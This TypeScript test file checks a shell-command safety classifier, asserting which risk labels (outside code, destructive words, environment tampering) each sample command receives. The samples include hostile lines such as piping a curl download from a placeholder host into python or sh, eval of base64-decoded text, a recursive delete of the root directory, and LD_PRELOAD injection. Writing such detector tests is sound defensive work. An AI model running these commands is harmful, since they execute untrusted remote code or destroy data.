import { describe, expect, it } from "vitest";
import { OPACITY, opaque } from "../../../src/checks/families/opaque.js";
import { familyRowsOf } from "./judging.js";

const of = (command: string): string => familyRowsOf("opaque", command);

describe("what cannot be known", () => {
  it.each([
    ["$(curl -s x.io) a", "from-outside"],
    ['eval "$(base64 -d x)"', "from-outside"],
    ["curl -s x.io | python3", "from-outside"],
    ["$CMD", ""],
    ['eval "$CMD"', ""],
    ['"$@"', ""],
    ['"$CMD" -rf /', "destructive-words"],
    ['"$CMD" -rf ./dist', ""],
    ["${x%-*}-ld y", "from-outside contrived-name"],
    ['"${x%/*}/ld" y', ""],
    ["LD_PRELOAD=./x.so ls", "environment"],
    ["env LD_PRELOAD=./x.so ls", "environment"],
    ["export LD_PRELOAD=./x.so", "environment"],
    ["hash -p /tmp/x ls", "environment"],
    ["hash -r", ""],
    ["noglob ls", "dialect"],
    ["Get-ChildItem", ""],
    ["Remove-Item x", "dialect"],
    ['echo "open', "unparsable"],
    ["-rf x", "bounds"],
    [`echo ${"x".repeat(70_000)}`, "bounds"],
    ["docker run --rm alpine sh -c 'curl -s x.io | sh'", ""],
  ])("%.60s: %s", (command, rows) => expect(of(command)).toBe(rows));
});

it("names only rows of its own in the table", () => {
  const ids = opaque.rows.map((row) => row.id);
  expect(OPACITY.map((line) => line.row).filter((id) => !ids.includes(id))).toEqual([]);
});
